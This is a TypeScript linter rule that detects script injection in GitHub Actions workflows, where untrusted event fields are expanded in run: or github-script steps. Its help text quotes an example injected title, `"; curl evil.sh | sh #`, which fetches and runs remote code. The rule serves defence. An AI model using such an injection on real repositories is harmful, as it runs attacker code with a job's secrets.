/** PG200 untrusted-input-in-script: attacker-controlled event data expanded in `run:` or github-script's `script:`. */
import { isMapping, isString } from '@actions/workflow-parser';
import type { TemplateToken } from '@actions/workflow-parser/templates/tokens/index';
import type { Rule } from '../../rule.js';
import type { ActionModel, FileModel, JobModel, StepModel } from '../../model.js';
import { contextChains, expressionSites, type Segment } from '../../expressions.js';

/**
 * The untrusted inputs of actionlint's expression check and GitHub's security hardening guide:
 * text any user (or fork) controls. `*` is any element of an array.
 */
const UNTRUSTED = [
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.head_repository.description',
  'github.head_ref'
].map((p) => p.split('.'));

/** The untrusted path a chain reads (as written in the list), if any. */
function untrusted(segments: Segment[]): string | undefined {
  const names = segments.map((s) => s.name.toLowerCase());
  for (const pattern of UNTRUSTED) {
    if (names.length < pattern.length) continue;
    if (pattern.every((p, i) => (p === '*' ? true : names[i] === p))) return pattern.join('.');
  }
  return undefined;
}

/** The value of `key` in a step's mapping. */
function valueOf(token: TemplateToken | undefined, key: string): TemplateToken | undefined {
  if (!token || !isMapping(token)) return undefined;
  for (const pair of token) if (isString(pair.key) && pair.key.value === key) return pair.value;
  return undefined;
}

const rule: Rule = {
  id: 'PG200',
  name: 'untrusted-input-in-script',
  level: 'error',
  description: 'Untrusted event data (titles, bodies, head refs, commit messages, `github.head_ref`, …) expanded with `${{ }}` in `run:` or in `actions/github-script`\'s `script:`.',
  help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The list of untrusted inputs is the one of actionlint and GitHub\'s security hardening guide.',
  create(context) {
    return {
      step(step: StepModel, _owner: JobModel | ActionModel, file: FileModel) {
        const sites: { where: string; token: TemplateToken }[] = [];
        const run = valueOf(step.token, 'run');
        if (run) sites.push({ where: 'run:', token: run });
        if (/^actions\/github-script@/i.test(step.uses?.value ?? '')) {
          const script = valueOf(valueOf(step.token, 'with'), 'script');
          if (script) sites.push({ where: "actions/github-script's script:", token: script });
        }
        for (const { where, token } of sites) {
          for (const site of expressionSites(token)) {
            for (const chain of contextChains(site)) {
              const path = untrusted(chain.segments);
              if (!path) continue;
              const shown = chain.segments.map((s) => s.name).join('.');
              context.report(file.file, chain.segments[0], `"${shown}" is untrusted input (${path}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
            }
          }
        }
      }
    };
  }
};
export default rule;
